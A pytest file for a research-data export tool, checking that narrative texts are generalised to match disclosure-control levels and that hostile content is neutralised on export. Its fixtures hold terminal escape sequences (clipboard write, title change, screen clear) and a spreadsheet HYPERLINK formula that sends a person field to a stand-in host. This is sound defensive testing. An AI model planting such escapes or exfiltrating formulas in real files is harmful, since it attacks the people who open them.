"""Texts under disclosure control, escapes and formulas neutralised, through the command.

A narrative saying "I was [AGE 30-39] when I left in [2019]" next to a table
that shows only eras makes the row unique again: the texts must follow the
table's levels. Control sequences pasted into a narrative must not reach a
researcher's terminal, and a formula must not run in their spreadsheet.
"""

from __future__ import annotations

import csv
import json
import random
import zipfile
from pathlib import Path
from typing import Any

import pytest
from export_contents import leaks, readable_contents
from export_fixtures import sample_dataset
from export_records import synthetic_record
from store_fixtures import STEWARD_PASSPHRASE, Project, make_project

from conftest import run_testimony
from intake.protocol import default_protocol
from intake.release.texts import (
    TextControl,
    TextFigures,
    age_range,
    is_age_question,
    markers,
)
from store.datasets import printable
from store.datasets.writers import write_formats

PROTOCOL = default_protocol()
STORY = "I was [AGE 30-39] when I left in [2019]; I had arrived in [2017] at [AGE 20-29]."
ESCAPES = "\x1b]52;c;cGF5bG9hZA==\x07\x1b]0;owned\x07\x1b[2J"
FORMULA = '=HYPERLINK("http://example.invalid/?"&[PERSON 1],"Open")'


def test_age_labels_read_as_ranges() -> None:
    assert age_range("Under 18") == (0, 17)
    assert age_range("18–24") == (18, 24)
    assert age_range("50 or older") == (50, 200)
    assert age_range("Prefers not to say") is None
    assert age_range("Under 6 months") is None
    ages = {f.id for f in PROTOCOL.quasi_identifiers() if is_age_question(f)}
    assert ages == {"age_band", "age_at_joining"}


def _rewrite(depths: dict[str, int], original: dict[str, Any], controlled: dict[str, Any]) -> str:
    control = TextControl(PROTOCOL, depths)
    return control.rewriter(original, controlled)(STORY)


def test_years_and_ages_follow_the_coarsest_level_chosen() -> None:
    row = {"join_year": 2017, "leave_year": 2019, "age_band": 4, "age_at_joining": 2}
    # Join year as eras, leave year as periods: the era is coarser and wins.
    text = _rewrite({"join_year": 2, "leave_year": 1, "age_band": 1}, row, row)
    assert text == (
        "I was [AGE 30-39] when I left in [2014–2019]; I had arrived in [2014–2019] at [AGE 18-29]."
    )
    assert _rewrite({}, row, row) == STORY  # nothing generalised: texts as reviewed
    older = TextControl(PROTOCOL, {"age_band": 1}).rewriter(row, row)
    assert older("at [AGE 40-49] and [AGE 10-19]") == "at [AGE 40 or older] and [AGE under 30]"


def test_a_suppressed_level_or_cell_suppresses_the_texts_too() -> None:
    row = {"join_year": 2017, "leave_year": 2019, "age_band": 4, "age_at_joining": 2}
    text = _rewrite({"join_year": 3}, row, row)  # join year suppressed for everyone
    assert "[YEAR]" in text and "2019" not in text and "2017" not in text
    assert "[AGE 30-39]" in text
    blanked = dict(row, age_at_joining=None)  # this row's cell was suppressed locally
    control = TextControl(PROTOCOL, {})
    text = control.rewriter(row, blanked)(STORY)
    assert text == "I was [AGE] when I left in [2019]; I had arrived in [2017] at [AGE]."
    control.tally(markers(STORY), row, blanked)
    assert control.figures() == TextFigures(ages_suppressed=2)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """Thirty respondents who joined and left in many different years, with telling texts."""
    made = make_project(tmp_path_factory.mktemp("export-texts"))
    rng = random.Random(7)
    with made.steward() as store:
        for number in range(30):
            record = synthetic_record(PROTOCOL, rng)
            record["answers"]["join_year"] = 2011 + number % 9
            record["answers"]["leave_year"] = 2014 + number % 6
            narrative = record["free_text"]["narrative"]
            narrative["redacted"] = f"{STORY} {ESCAPES} {narrative['redacted']}"
            record["free_text"]["group_joined_other"] = {"redacted": FORMULA + ESCAPES}
            record["answers"]["group_joined"] = 7
            store.finalise(
                record,
                protocol_id=PROTOCOL.id,
                protocol_version=PROTOCOL.version,
                reviewed=True,
            )
    (made.keys / "steward.pass").write_text(STEWARD_PASSPHRASE + "\n", encoding="utf-8")
    return made


@pytest.fixture(scope="module")
def exported(project: Project) -> tuple[Path, str]:
    out = project.steward_dir.parent / "out"
    result = run_testimony(
        [
            "export",
            "--store",
            str(project.steward_dir),
            "--out",
            str(out),
            "--passphrase-file",
            str(project.keys / "steward.pass"),
            "--k",
            "3",
            "--l",
            "1",
        ]
    )
    assert result.returncode == 0, result.stderr
    return out, result.stderr


@pytest.mark.slow
def test_texts_leave_at_the_tables_level(exported: tuple[Path, str]) -> None:
    out, stderr = exported
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    levels = manifest["disclosure"]["levels"]
    assert levels["join_year"]["depth"] > 0  # the table shows no exact join year
    texts = manifest["disclosure"]["texts"]
    assert texts["years_generalised"] + texts["years_suppressed"] == 60
    assert "in the texts:" in stderr and "information loss" in stderr
    assert 0 < manifest["disclosure"]["information_loss"] < 1
    codebook = (out / "codebook.txt").read_text(encoding="utf-8")
    assert "Disclosure control: every combination of 10 quasi-identifier(s)" in codebook
    assert "information lost" in codebook and "Generalised for disclosure control." in codebook
    every_text = [p.read_text(encoding="utf-8") for p in (out / "texts").iterdir()]
    assert len(every_text) == 30
    for text in every_text:
        assert "[2019]" not in text and "[2017]" not in text
    # Inside the zip and the JSON Lines too, where a raw byte search would miss it.
    assert leaks(out, "[2019]", "[2017]") == []


@pytest.mark.slow
def test_no_escape_and_no_live_formula_leaves(exported: tuple[Path, str]) -> None:
    out, _stderr = exported
    binary = (".sav", ".dta", ".parquet", ".qdpx")  # their raw bytes hold any byte value
    found = leaks(out, "\x1b", "\x07", "\x9b")
    assert [where for where in found if not where.rsplit(": ", 1)[0].endswith(binary)] == []
    with (out / "data.csv").open(encoding="utf-8", newline="") as handle:
        cells = [row["group_joined_other"] for row in csv.DictReader(handle)]
    kept = FORMULA + printable(ESCAPES)  # the escapes' control characters are gone
    assert kept == FORMULA + "]52;c;cGF5bG9hZA==]0;owned[2J"
    assert cells and all(cell == "'" + kept for cell in cells)
    lines = (out / "data.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(lines[0])["group_joined_other"] == kept  # JSON keeps the text as it is


def test_the_scan_reads_inside_compressed_formats(tmp_path: Path) -> None:
    """A needle only in a deflated zip member and zstd Parquet pages is still found."""
    needle = "Zubayr al-Qanari of Hay al-Sirri"
    base = sample_dataset()
    rows = (dict(base.rows[0], group_other=needle), *base.rows[1:])
    write_formats(
        type(base)(base.name, base.title, base.id_variable, base.variables, rows),
        tmp_path,
        ["parquet", "qdpx"],
    )
    raw = b"".join(p.read_bytes() for p in tmp_path.rglob("*") if p.is_file())
    assert needle.encode() not in raw  # a raw byte search is fooled
    found = leaks(tmp_path, needle)
    assert any("data.parquet:decoded" in where for where in found)
    assert any("project.qdpx:project.qde" in where for where in found)
    with zipfile.ZipFile(tmp_path / "project.qdpx") as archive:
        assert len(archive.namelist()) + 2 <= len(list(readable_contents(tmp_path)))
